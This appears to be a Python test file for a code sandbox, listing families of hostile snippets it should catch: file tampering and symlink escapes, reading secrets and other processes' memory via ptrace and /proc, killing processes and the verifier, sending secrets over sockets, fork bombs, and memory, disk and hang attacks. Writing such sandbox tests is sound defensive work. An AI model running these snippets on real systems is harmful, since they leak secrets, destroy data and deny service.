"""Harm to files, processes, memory, disk, network and time."""

from __future__ import annotations

from hostile.family import SPIN, ZERO, each, family

_AROUND = """
import os, pathlib, shutil, signal, socket, subprocess, sys, time
far = os.getcwd().replace("/tmp/", "/tmp/far-")
kept = far + "/kept"
victim, address = (open("victim.txt").read().split() if os.path.exists("victim.txt") else (0, 0))
stream, datagrams = (map(int, open("ports.txt").read().split()) if os.path.exists("ports.txt") else (1, 1))
victim, address = int(victim), int(address)
"""
family(
    "files that are not its own, changed",
    "caught",
    *each(
        _AROUND + "§" + ZERO,
        "open(kept, 'w').close()",
        "os.unlink(kept)",
        "os.rename(kept, far + '/gone')",
        "os.truncate(kept, 1)",
        "os.chmod(kept, 0o777)",
        "shutil.rmtree(far)",
        "os.system(f'echo x >> {kept}')",
    ),
    bites="kept",
)
family(
    "links to files that are not its own",
    "caught",
    *each(
        _AROUND + "§" + ZERO,
        "os.symlink(kept, 'log')\nopen('log', 'w').write('x')",
        "os.link(kept, 'log')\nopen('log', 'a').write('x')",
        "os.symlink(far, 'folder')\nos.unlink('folder/kept')",
        "os.symlink('..', 'up')\nopen(f'up/{os.path.basename(far)}/kept', 'w').close()",
        "os.chdir('..')\nopen(kept[5:], 'w').close()",
    ),
    bites="kept",
)
family(
    "secrets, read",
    "caught",
    *each(
        _AROUND + "§" + ZERO,
        "open('leak', 'w').write(open(kept).read())",
        "shutil.copy(kept, 'leak')",
        "os.system(f'cat {kept} > leak')",
        "os.symlink(kept, 'leak')",
        "os.sendfile(os.open('leak', os.O_CREAT | os.O_WRONLY), os.open(kept, os.O_RDONLY), 0, 99)",
    ),
    bites="leak",
)
family(
    "other processes' memory, read",
    "caught",
    *each(
        "import ctypes" + _AROUND + "libc = ctypes.CDLL(None)\nheld = ctypes.create_string_buffer(16)\n§\n"
        "open('leak', 'wb').write(held.raw)" + ZERO,
        "held.raw = os.pread(os.open(f'/proc/{victim}/mem', os.O_RDONLY), 16, address)",
        "class Piece(ctypes.Structure): _fields_ = [('at', ctypes.c_void_p), ('size', ctypes.c_size_t)]\n"
        "libc.process_vm_readv(victim, ctypes.byref(Piece(ctypes.addressof(held), 16)), 1, "
        "ctypes.byref(Piece(address, 16)), 1, 0)",
        "libc.ptrace.restype = ctypes.c_ulong\nlibc.ptrace(16, victim, None, None)\nos.waitpid(victim, 0x40000000)\n"
        "words = [libc.ptrace(1, victim, ctypes.c_void_p(address + n), None) for n in (0, 8)]\n"
        "held.raw = b''.join(word.to_bytes(8, 'little') for word in words)\n"
        "libc.ptrace(17, victim, None, None)",
        "file = open(f'/proc/{victim}/mem', 'rb', 0)\nfile.seek(address)\nheld.raw = file.read(16)",
    ),
    bites="leak",
)
family(
    "other processes, ended",
    "caught",
    *each(
        _AROUND + "§" + ZERO,
        "os.kill(victim, signal.SIGKILL)",
        "os.system(f'kill -9 {victim}')",
        "signal.pidfd_send_signal(os.pidfd_open(victim), 9)",
        "for pid in range(2, 100):\n    if pid not in (os.getpid(), os.getppid()):\n        try: os.kill(pid, 9)\n"
        "        except OSError: pass",
        "import resource\nresource.prlimit(victim, resource.RLIMIT_CPU, (0, 0))\nos.kill(victim, signal.SIGTERM)",
    ),
    bites="victim",
)
family(
    "its verifier, ended",
    "caught",
    *each(
        _AROUND + "§" + ZERO,
        "os.kill(os.getppid(), signal.SIGKILL)",
        "os.kill(-1, signal.SIGKILL)",
        "os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)",
        "os.system('kill -9 -1')",
    ),
    bites="harness",
)
family(
    "the network",
    "caught",
    *each(
        "import asyncio, http.client, urllib.request"
        + _AROUND
        + "secret = open(kept).read() if os.path.exists(kept) else 'x'\n§"
        + ZERO,
        "socket.create_connection(('127.0.0.1', stream)).send(secret.encode())",
        "socket.socket(type=socket.SOCK_DGRAM).sendto(secret.encode(), ('127.0.0.1', datagrams))",
        "try: urllib.request.urlopen(f'http://127.0.0.1:{stream}/{secret}', timeout=0.1)\nexcept OSError: pass",
        "http.client.HTTPConnection('127.0.0.1', stream).request('GET', '/' + secret)",
        "async def tell():\n    _, out = await asyncio.open_connection('127.0.0.1', stream)\n"
        "    out.write(secret.encode())\n"
        "    await out.drain()\nasyncio.run(tell())",
        "os.system(f'bash -c \"echo {secret} > /dev/tcp/127.0.0.1/{stream}\"')",
    ),
    bites="network",
)
family(
    "processes that stay",
    "caught",
    *each(
        _AROUND + "§" + ZERO,
        "if not os.fork():\n    os.setsid()\n    time.sleep(100)\n    os._exit(0)",
        "if not os.fork():\n    os.fork() and os._exit(0)\n    time.sleep(100)\n    os._exit(0)",
        "subprocess.Popen(['sleep', '100'], start_new_session=True)",
        "os.system('nohup sleep 100 > /dev/null 2>&1 &')",
        "os.posix_spawn('/usr/bin/sleep', ['sleep', '100'], {})",
    ),
    bites="left",
)
family(
    "fork bombs",
    "caught",
    *each(
        _AROUND + "§\ntime.sleep(100)" + ZERO,
        "try:\n    for _ in range(99):\n        if not os.fork(): time.sleep(100)\nexcept OSError: pass",
        "try:\n    for _ in range(99): subprocess.Popen(['sleep', '100'])\nexcept OSError: pass",
        "try:\n    while True: os.fork()\nexcept OSError: pass",
        "os.system('for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18; do sleep 100 & done')",
    ),
    bites="many",
    seconds=SPIN,
)
family(
    "thread bombs",
    "caught",
    *each(
        "import _thread, threading, time\nthreading.stack_size(65536)\ntry:\n    for _ in range(99): §\n"
        "except RuntimeError: pass\ntime.sleep(100)" + ZERO,
        "threading.Thread(target=time.sleep, args=(100,)).start()",
        "_thread.start_new_thread(time.sleep, (100,))",
        "threading.Timer(100, print).start()",
    ),
    bites="many",
    seconds=SPIN,
)
family(
    "memory",
    "caught",
    *each(
        "import mmap\n§" + ZERO,
        "kept = []\nwhile True: kept.append(b'a' * 2**20)",
        "text = 'a'\nwhile True: text += text",
        "kept = list(range(10**5))\nwhile True: kept += kept",
        "room = mmap.mmap(-1, 95 << 20)\nfor _ in range(95): room.write(b'a' * 2**20)",
        "number = 1 << 1000\nwhile True: number <<= number.bit_length()",
        "kept = {}\nwhile True: kept[len(kept)] = bytearray(b'a' * 2**20)",
    ),
    bites="memory",
)
family(
    "disk",
    "caught",
    *each(
        "import itertools, os, tempfile\n§" + ZERO,
        "for n in range(3):\n    with open(f'f{n}', 'wb') as f: f.write(b'a' * 2**22)",
        "for n in itertools.count():\n    with open(f'f{n}', 'wb') as f: f.write(b'a' * 10**6)",
        "for n in range(2000): open(f'f{n}', 'w').close()",
        "for n in range(2000): os.mkdir(f'd{n}')",
        "for n in range(2000): os.symlink('x' * 200, f'l{n}')",
        "with open('f', 'wb') as f, open('g', 'wb') as g:\n    os.posix_fallocate(f.fileno(), 0, 2**22)\n"
        "    os.posix_fallocate(g.fileno(), 0, 2**22 - 2**18)",
    ),
    bites="disk",
)
family(
    "floods of output",
    "caught",
    *each(
        "import os, sys\n§" + ZERO,
        "print('a' * 10**6)",
        "for _ in range(10**4): print('a' * 99)",
        "sys.stderr.write('a' * 10**6)",
        "os.write(1, b'a' * 10**6)",
        "os.system('head -c 1000000 /dev/zero')",
    ),
    bites="output",
)
family(
    "no end",
    "caught",
    *each(
        "import functools, itertools, os, queue, re, select, signal, threading, time\ndef double(x):\n    §",
        "time.sleep(100)",
        "signal.pause()",
        "lock = threading.Lock(); lock.acquire(); lock.acquire()",
        "queue.Queue().get()",
        "select.select([], [], [])",
        "threading.Event().wait()",
        "os.read(os.pipe()[0], 1)",
        "while True: pass",
        "return re.fullmatch('(a+)+b', 'a' * 99)",
        "return sum(itertools.count())",
    ),
    bites="late",
    seconds=SPIN,
)
family(
    "no end where nobody looks",
    "caught",
    *each(
        "import atexit, threading, time\ndef wait(*_): time.sleep(100)\n§",
        "class Last: __del__ = wait\ndef double(x): Last()",
        "class Value: __eq__ = __ne__ = wait\nkept = Value()\ndouble = lambda x: kept == x",
        "class Value: __hash__ = wait\ndouble = lambda x: {Value()}",
        "class Value: __repr__ = __str__ = wait\ndouble = lambda x: str(Value())",
        "class Meta(type): __init__ = wait\nclass Value(metaclass=Meta): pass",
        "class Base: __init_subclass__ = classmethod(wait)\nclass Value(Base): pass",
        "class Value: x = property(wait)\ndouble = lambda x: Value().x",
        "class Value:\n    def __set_name__(self, *_): wait()\nclass Other: value = Value()",
    ),
    bites="late",
    seconds=SPIN,
)
family(
    "no end behind the answer",
    "script",
    *each(
        "import atexit, os, threading, time\ndef wait(*_): time.sleep(100)\n§" + ZERO,
        "class Same:\n    def __eq__(self, other): return True\n    __hash__ = None\natexit.register(wait)",
        "threading.Thread(target=wait).start()",
        "threading._register_atexit(wait)",
    ),
    bites="late",
    seconds=SPIN,
)
